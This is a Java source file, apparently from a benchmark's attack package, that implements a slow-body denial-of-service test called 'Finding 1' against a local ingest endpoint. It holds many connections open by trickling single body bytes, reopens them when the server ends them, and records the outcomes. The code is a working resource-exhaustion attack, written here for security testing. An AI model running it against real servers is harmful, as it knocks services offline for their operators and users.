package lethe.bench.attack;

import java.io.IOException;
import java.net.InetSocketAddress;
import java.nio.ByteBuffer;
import java.nio.channels.SelectionKey;
import java.nio.channels.Selector;
import java.nio.channels.SocketChannel;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.function.IntFunction;

/**
 * Finding 1: {@code connections} ingest requests announcing a 1 MB body, each sending its headers and then one
 * body byte every {@code byteEvery}, all from one thread (non-blocking sockets). The connections are opened
 * at {@code opensPerSecond}; one the server answers or closes is opened again at its next tick, so the
 * attacker keeps trying to hold as many as it can for the whole run, as a real one would, without turning
 * the attack into a flood of new connections.
 */
final class SlowBodies {

    private static final int ANNOUNCED_BODY_BYTES = 1_000_000;
    private static final byte[] BODY = "{\"tool\":\"claude-code\",\"host\":\"bench\"".getBytes(StandardCharsets.US_ASCII);

    /** One of the attacker's connections, its socket replaced each time the server ends it. */
    private final class Slot {
        final int index;
        SocketChannel channel;
        long nextTick;
        int bodySent;
        final ByteBuffer answer = ByteBuffer.allocate(256);

        Slot(int index, long firstTick) {
            this.index = index;
            this.nextTick = firstTick;
        }
    }

    private final InetSocketAddress server;
    private final int connections;
    private final double opensPerSecond;
    private final long byteEveryNanos;
    private final IntFunction<String> userHeader;
    private final Answers answers;
    private int mostHeld;

    /** {@code userHeader} gives slot i's identity header line ({@code "Remote-User: x\r\n"}) or "". */
    SlowBodies(InetSocketAddress server, int connections, double opensPerSecond, Duration byteEvery,
               IntFunction<String> userHeader, Answers answers) {
        this.server = server;
        this.connections = connections;
        this.opensPerSecond = opensPerSecond;
        this.byteEveryNanos = byteEvery.toNanos();
        this.userHeader = userHeader;
        this.answers = answers;
    }

    /** The most connections held open (sent headers, not answered) at once. */
    int mostHeld() {
        return mostHeld;
    }

    void run(long deadlineNanos) throws IOException {
        List<Slot> slots = new ArrayList<>();
        long start = System.nanoTime();
        for (int i = 0; i < connections; i++) {
            slots.add(new Slot(i, start + (long) (i * 1e9 / opensPerSecond)));
        }
        try (Selector selector = Selector.open()) {
            while (System.nanoTime() < deadlineNanos) {
                long now = System.nanoTime();
                int held = 0;
                for (Slot slot : slots) {
                    if (slot.nextTick <= now) {
                        tick(slot, selector, now);
                    }
                    if (slot.channel != null && slot.channel.isConnected()) {
                        held++;
                    }
                }
                mostHeld = Math.max(mostHeld, held);
                selector.select(50);
                for (SelectionKey key : selector.selectedKeys()) {
                    Slot slot = (Slot) key.attachment();
                    if (key.isValid() && key.isConnectable()) {
                        connected(slot, key);
                    } else if (key.isValid() && key.isReadable()) {
                        read(slot);
                    }
                }
                selector.selectedKeys().clear();
            }
            for (Slot slot : slots) {
                if (slot.channel != null) {
                    answers.count(slot.channel.isConnected() ? "held open at the end" : "still connecting at the end");
                    slot.channel.close();
                }
            }
        }
    }

    /** A closed slot opens a new connection; an open one sends its next body byte. */
    private void tick(Slot slot, Selector selector, long now) {
        slot.nextTick = now + byteEveryNanos;
        try {
            if (slot.channel == null) {
                slot.channel = SocketChannel.open();
                slot.channel.configureBlocking(false);
                slot.bodySent = 0;
                slot.answer.clear();
                if (slot.channel.connect(server)) {
                    sendHeaders(slot);
                    slot.channel.register(selector, SelectionKey.OP_READ, slot);
                } else {
                    slot.channel.register(selector, SelectionKey.OP_CONNECT, slot);
                }
            } else if (slot.channel.isConnected() && slot.bodySent < ANNOUNCED_BODY_BYTES) {
                slot.channel.write(ByteBuffer.wrap(BODY, slot.bodySent % BODY.length, 1));
                slot.bodySent++;
            }
        } catch (IOException e) {
            end(slot, "reset while sending");
        }
    }

    private void connected(Slot slot, SelectionKey key) {
        try {
            slot.channel.finishConnect();
            sendHeaders(slot);
            key.interestOps(SelectionKey.OP_READ);
        } catch (IOException e) {
            end(slot, "connection refused");
        }
    }

    private void sendHeaders(Slot slot) throws IOException {
        String headers = "POST /api/v1/ingest HTTP/1.1\r\nHost: 127.0.0.1\r\n" + userHeader.apply(slot.index)
                + "Content-Type: application/x-ndjson\r\nContent-Length: " + ANNOUNCED_BODY_BYTES + "\r\n\r\n";
        ByteBuffer out = ByteBuffer.wrap(headers.getBytes(StandardCharsets.US_ASCII));
        while (out.hasRemaining()) {
            slot.channel.write(out);
        }
        slot.channel.write(ByteBuffer.wrap(BODY, 0, 1));
        slot.bodySent = 1;
    }

    /** Reads the status line; the first answer ends the connection, and the slot opens anew at its next tick. */
    private void read(Slot slot) {
        try {
            int read = slot.channel.read(slot.answer);
            String received = new String(slot.answer.array(), 0, slot.answer.position(), StandardCharsets.US_ASCII);
            int endOfLine = received.indexOf("\r\n");
            if (endOfLine > 0) {
                String[] statusLine = received.substring(0, endOfLine).split(" ");
                end(slot, statusLine.length > 1 ? statusLine[1] : "unreadable answer");
            } else if (read == -1) {
                end(slot, "closed without an answer");
            } else if (!slot.answer.hasRemaining()) {
                end(slot, "unreadable answer");
            }
        } catch (IOException e) {
            end(slot, "reset without an answer");
        }
    }

    private void end(Slot slot, String outcome) {
        answers.count(outcome);
        try {
            slot.channel.close();
        } catch (IOException ignored) {
            // Closing is all that was left to do with this connection.
        }
        slot.channel = null;
    }
}
